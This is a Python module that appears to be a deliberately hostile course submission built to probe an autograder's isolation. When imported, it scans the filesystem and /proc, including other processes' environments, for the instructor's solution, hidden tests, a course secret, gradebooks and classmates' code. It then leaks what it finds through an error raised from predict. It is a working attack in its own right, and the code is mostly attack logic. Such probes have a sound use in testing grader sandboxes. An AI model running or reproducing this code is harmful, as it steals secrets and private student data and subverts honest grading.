"""At import, hunts for what a worker must never read, from every starting point it has: /,
its working folder and its package's folder and their parents, /proc/self/cwd, the
grader's /proc entries, every path in its environment and in other processes' command
lines. It wants the instructor's solution (solution/nnbasics, "# BEGIN SOLUTION"), the
hidden tests (checks_*.py), the course secret (nnkit.json), results and gradebooks
(results.json, gradebook.csv, gradebook.sqlite) and classmates' submissions (any other
nnbasics package). It raises what it read from predict.
"""

import os
import time

from . import _honest_train as honest
from ._honest_train import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------

WANTED = ("nnkit.json", "results.json", "gradebook.csv", "gradebook.sqlite", "feedback.md")
OWN = os.path.dirname(os.path.realpath(__file__))
LOOT = []
DEADLINE = time.monotonic() + 4.0


def _read(path, why):
    try:
        with open(path, "rb") as fh:
            data = fh.read(300)
    except Exception:
        return
    LOOT.append(f"{why} {path}: {data[:120]!r}")


def _interesting(folder, name):
    path = os.path.join(folder, name)
    if name in WANTED or (name.startswith("checks_") and name.endswith(".py")):
        _read(path, "hidden")
    elif name == "nnbasics" and os.path.realpath(path) != OWN:
        for module in ("train.py", "neuron.py", "__init__.py"):
            _read(os.path.join(path, module), "other package")
    elif name.endswith(".py") and os.path.basename(folder) == "nnbasics":
        if os.path.realpath(folder) == OWN:
            return
        try:
            with open(path, errors="replace") as fh:
                if "# BEGIN " + "SOLUTION" in fh.read():
                    LOOT.append(f"solution {path}")
        except Exception:
            pass


def _walk(root, budget):
    try:
        walker = os.walk(root)
        for count, (folder, dirs, files) in enumerate(walker):
            if count > budget or time.monotonic() > DEADLINE:
                return
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", ".git", "node_modules")][:40]
            for name in dirs + files:
                _interesting(folder, name)
    except Exception:
        pass


def _starts():
    starts = [os.getcwd(), OWN, "/proc/self/cwd", "/proc/1/cwd", f"/proc/{os.getppid()}/cwd"]
    for up in range(1, 8):
        starts += [os.path.join(os.getcwd(), *[".."] * up), os.path.join(OWN, *[".."] * up)]
    for value in os.environ.values():
        starts += [p for p in value.split(":") if p.startswith("/")]
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except Exception:
        pids = []
    for pid in pids[:2000]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().decode(errors="replace").split("\0")
            starts += [a for a in args if a.startswith("/")] + [f"/proc/{pid}/cwd"]
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().decode(errors="replace").split("\0"):
                    if item.startswith("NNKIT_SECRET="):
                        LOOT.append(f"secret in /proc/{pid}/environ")
        except Exception:
            pass
    starts += ["/work", "/autograder", "/home", "/root", "/tmp", "/var/tmp", "/srv", "/opt"]
    return list(dict.fromkeys(starts))


for _start in _starts():
    _walk(_start if os.path.isdir(_start) else os.path.dirname(_start), 300)
_walk("/", 3000)


def predict(X, params, activations):
    if LOOT:
        raise RuntimeError("LOOT-FOUND " + " | ".join(LOOT[:5]))
    return honest.predict(X, params, activations)
